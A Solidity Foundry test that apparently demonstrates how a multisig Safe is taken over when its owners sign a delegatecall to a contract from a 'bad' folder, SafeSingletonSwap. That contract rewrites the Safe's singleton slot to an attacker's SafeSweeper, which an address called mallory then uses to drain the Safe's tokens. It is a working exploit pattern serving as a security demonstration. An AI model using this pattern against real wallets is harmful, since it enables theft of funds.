// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {SafeSingletonSwap} from "../../src/bad/SafeSingletonSwap.sol";
import {HarborToken} from "../../src/demo/HarborToken.sol";
import {Safe} from "@safe-global/safe-contracts/contracts/Safe.sol";
import {Enum} from "@safe-global/safe-contracts/contracts/common/Enum.sol";
import {SafeProxy} from "@safe-global/safe-contracts/contracts/proxies/SafeProxy.sol";
import {Test} from "forge-std/Test.sol";

/// @dev What the attacker makes the Safe's code.
contract SafeSweeper {
    function sweep(HarborToken token, address receiver) external {
        token.transfer(receiver, token.balanceOf(address(this)));
    }
}

/// @dev A real Safe 1.4.1, two of three, and real signatures.
contract SafeSingletonSwapTest is Test {
    HarborToken private token = new HarborToken("Harbor Dollar", "hUSD", 6);
    SafeSingletonSwap private swap = new SafeSingletonSwap();
    address private singleton = address(new Safe());
    address private sweeper = address(new SafeSweeper());
    address private mallory = makeAddr("mallory");
    Safe private safe;
    uint256[] private keys;

    function setUp() public {
        address[] memory owners = new address[](3);
        for (uint256 i = 0; i < 3; ++i) {
            owners[i] = vm.addr(i + 1);
        }
        safe = Safe(payable(address(new SafeProxy(singleton))));
        safe.setup(owners, 2, address(0), "", address(0), address(0), 0, payable(address(0)));
        token.mint(address(safe), 1_000_000e6);
        // A Safe wants signatures in the order of their owners' addresses.
        keys = vm.addr(1) < vm.addr(2) ? [uint256(1), 2] : [uint256(2), 1];
    }

    function _execute(Enum.Operation operation) private {
        bytes memory data = abi.encodeCall(SafeSingletonSwap.transfer, (sweeper, 0));
        bytes32 hash = safe.getTransactionHash(
            address(swap), 0, data, operation, 0, 0, 0, address(0), address(0), safe.nonce()
        );
        bytes memory signatures;
        for (uint256 i = 0; i < keys.length; ++i) {
            (uint8 v, bytes32 r, bytes32 s) = vm.sign(keys[i], hash);
            signatures = abi.encodePacked(signatures, r, s, v);
        }
        safe.execTransaction(
            address(swap), 0, data, operation, 0, 0, 0, address(0), payable(address(0)), signatures
        );
    }

    function _singletonOf(Safe account) private view returns (address) {
        return address(uint160(uint256(vm.load(address(account), 0))));
    }

    function test_delegatecall_handsTheSafeOver() public {
        _execute(Enum.Operation.DelegateCall);
        assertEq(_singletonOf(safe), sweeper);
        vm.prank(mallory);
        SafeSweeper(address(safe)).sweep(token, mallory);
        assertEq(token.balanceOf(mallory), 1_000_000e6);
    }

    function test_call_leavesTheSafeAlone() public {
        _execute(Enum.Operation.Call);
        assertEq(_singletonOf(safe), singleton);
        assertEq(token.balanceOf(address(safe)), 1_000_000e6);
        assertEq(safe.nonce(), 1);
    }
}
